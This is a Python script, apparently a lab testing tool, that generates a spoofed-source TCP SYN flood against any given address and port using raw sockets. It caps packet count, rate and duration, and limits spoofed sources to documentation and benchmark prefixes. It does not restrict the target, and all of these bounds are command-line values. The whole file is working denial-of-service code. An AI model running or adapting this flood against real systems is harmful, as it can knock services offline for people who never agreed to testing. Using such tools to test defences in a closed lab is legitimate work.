#!/usr/bin/env python3
"""A bounded spoofed-source SYN flood for the lab: COUNT SYNs from random addresses in SRC_NET
(a documentation prefix that exists only inside the lab) and random ports, at most RATE per
second, stopping by itself after COUNT packets or DURATION seconds, whichever comes first."""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src, dst, sport, dport, isn):
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, (5 + len(opts) // 4) << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6,
                     0, src.packed, dst.packed)
    return ip + tcp  # the kernel fills in the IP checksum for IP_HDRINCL


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--src-net", default="203.0.113.0/24")
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--rate", type=float, default=50000)
    ap.add_argument("--duration", type=float, default=30)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    net = ipaddress.ip_network(args.src_net)
    if not (net.subnet_of(ipaddress.ip_network("203.0.113.0/24")) or
            net.subnet_of(ipaddress.ip_network("198.18.0.0/15"))):
        sys.exit("synflood: sources must be documentation/benchmark addresses")
    dst = ipaddress.ip_address(args.dst)
    random.seed(args.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    hosts = list(net.hosts())
    start = time.monotonic()
    sent = 0
    while sent < args.count and time.monotonic() - start < args.duration:
        src = random.choice(hosts)
        pkt = syn(src, dst, random.randint(1024, 65535), args.dport, random.getrandbits(32))
        try:
            s.sendto(pkt, (str(dst), 0))
        except OSError:
            pass
        sent += 1
        if args.rate > 0:
            ahead = sent / args.rate - (time.monotonic() - start)
            if ahead > 0.001:
                time.sleep(ahead)
    el = time.monotonic() - start
    print("synflood: sent %d SYNs in %.2f s (%.0f/s)" % (sent, el, sent / el if el else 0))


if __name__ == "__main__":
    main()
